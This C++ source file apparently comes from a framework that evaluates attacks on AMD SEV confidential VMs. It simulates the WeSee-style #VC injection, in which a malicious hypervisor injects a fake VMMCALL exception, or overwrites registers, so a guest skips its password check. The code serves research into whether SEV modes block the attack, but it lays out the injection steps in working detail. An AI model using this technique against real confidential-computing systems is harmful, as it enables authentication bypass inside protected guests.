#include "attacks/wesee.h"

#include <fmt/format.h>

#include "attacks/fn_guest.h"
#include "hw/cpu/msr.h"
#include "hw/svm/vmcb.h"
#include "sw/ghcb/ghcb.h"

namespace cbit::attacks {
namespace {
namespace go = sw::ghcb::off;
namespace mp = sw::ghcb::msr_proto;
constexpr uint64_t kGhcb = 0x20A000, kData = 0x20B000, kTables = 0x30C000;

// The GHCB page as the victim's handler fills it (sev_es_ghcb_hv_call): fields with their
// valid bits, protocol version 2, default usage.
struct GhcbPage {
  uint8_t b[sw::ghcb::kGhcbSize] = {};
  void set(uint64_t off, uint64_t v) {
    store_le<uint64_t>(b + off, v);
    const unsigned bit = sw::ghcb::valid_bit(off);
    b[go::kValidBitmap + bit / 8] |= static_cast<uint8_t>(1u << (bit % 8));
  }
  uint64_t get(uint64_t off) const { return load_le<uint64_t>(b + off); }
};

// Linux's #VC handler before the 2024 fix, for the VMMCALL exit code (vc_handle_vmmcall with
// kvm_sev_es_hcall_prepare / _finish): the hypervisor's RAX goes into the interrupted context.
void linux_vc_handler(GuestCpu& cpu, uint8_t vector, uint32_t error_code, int& vcs) {
  if (vector != 29 || error_code != hw::svm::exit_code::kVmmcall)
    throw std::runtime_error(fmt::format("victim: unexpected #{} ({:#x})", vector, error_code));
  ++vcs;
  auto& r = cpu.regs();
  GhcbPage g;
  g.set(go::kRax, r.rax);
  g.set(go::kRbx, r.rbx);
  g.set(go::kRcx, r.rcx);
  g.set(go::kRdx, r.rdx);
  g.set(go::kCpl, 0);
  g.set(go::kSwExitCode, error_code);
  g.set(go::kSwExitInfo1, 0);
  g.set(go::kSwExitInfo2, 0);
  store_le<uint16_t>(g.b + go::kProtocolVersion, 2);
  cpu.write_virt(VirtAddr(kGhcb), g.b);
  cpu.wrmsr(hw::msr::kGhcb, kGhcb);
  cpu.vmgexit();
  cpu.read_virt(VirtAddr(kGhcb), g.b);
  if (g.get(go::kSwExitInfo1) & 0xffffffffu) return;  // the hypervisor reported an error
  r.rax = g.get(go::kRax);                            // vc_finish_insn: the "VMMCALL" is complete
}
}  // namespace

SevAttackResult wesee_vc_injection(HostAttacker& attacker, SevMode mode) {
  SevAttackResult r;
  r.attack = "wesee-vc-injection";
  r.mode = mode;
  auto& hv = attacker.hypervisor();
  auto vm = hv.launch_vm(mode);
  int step = 0, vcs = 0;
  bool registered = false, authenticated = false;
  uint64_t rax_seen = 0;
  FnGuest guest([&](GuestCpu& cpu) {
    if (step++ == 0) {
      guest_accept_memory(cpu,
                          {kData, kTables, kTables + 0x1000, kTables + 0x2000, kTables + 0x3000});
      const uint64_t c = guest_cbit_mask(cpu);
      if (cpu.rdmsr(hw::msr::kSevStatus) & 2) {  // SEV-ES / SNP: a GHCB for the #VC handler
        guest_identity_paging(cpu, kTables, {{kData, true}, {kGhcb, false}}, c);
        cpu.wrmsr(hw::msr::kGhcb, mp::reg_gpa(kGhcb >> 12, false));
        cpu.vmgexit();
        registered = cpu.rdmsr(hw::msr::kGhcb) == mp::reg_gpa(kGhcb >> 12, true);
      } else {
        registered = true;
      }
      cpu.regs().rax = 0;  // the password check failed
      return;              // HLT
    }
    rax_seen = cpu.regs().rax;
    authenticated = rax_seen != 0;
  });
  guest.on_exception = [&](GuestCpu& cpu, uint8_t v, uint32_t ec) {
    linux_vc_handler(cpu, v, ec, vcs);
  };
  const auto first = vm->run(guest);
  auto& ev = r.evidence;
  ev["first_exit"] = hw::svm::exit_code_name(first.code);

  hw::GprFile regs{};
  std::string how;
  uint64_t second_code;
  if (vm->vcpu().get_regs(&regs) == 0) {
    regs.rax = 1;  // the registers are the hypervisor's: no injection needed
    vm->vcpu().set_regs(regs);
    how = "KVM_SET_REGS";
    second_code = vm->run(guest).code;
  } else {
    uint8_t inj[8];
    store_le<uint64_t>(inj, hw::svm::event_inj::exception(hw::svm::event_inj::kVectorVc,
                                                          hw::svm::exit_code::kVmmcall));
    hv.memcpy_to(vm->vcpu().vmcb() + hw::svm::ctl::kEventInj, inj);
    how = "EVENTINJ #VC(VMMCALL)";
    second_code = vm->run(guest).code;
  }
  ev["method"] = how;
  ev["ghcb_registered"] = registered;
  ev["vc_handled"] = vcs;
  ev["exit_after_injection"] = hw::svm::exit_code_name(second_code);
  ev["guest_rax_after"] = fmt::format("{:#x}", rax_seen);
  ev["guest_authenticated"] = authenticated;
  const bool ran = step >= 2;
  r.verdict = second_code == hw::svm::exit_code::kInvalid             ? Verdict::Blocked  // refused
              : !registered || first.code != hw::svm::exit_code::kHlt ? Verdict::Error
              : authenticated                                         ? Verdict::Succeeded
                                                                      : Verdict::Blocked;
  if (authenticated)
    r.got = fmt::format("RAX 0 -> {:#x}: auth bypass", rax_seen);
  else if (second_code == hw::svm::exit_code::kInvalid)
    r.got = "VMRUN refused: DoS only";
  else
    r.got = ran ? "RAX stayed 0" : "guest stopped";
  r.detail = fmt::format("{} at the HLT exit: VMRUN -> {}, {} #VC handled; the guest {}", how,
                         hw::svm::exit_code_name(second_code), vcs,
                         authenticated ? fmt::format("resumed with RAX {:#x} and skipped its "
                                                     "password check",
                                                     rax_seen)
                         : ran         ? "kept RAX 0"
                                       : "did not resume");
  return r;
}

}  // namespace cbit::attacks
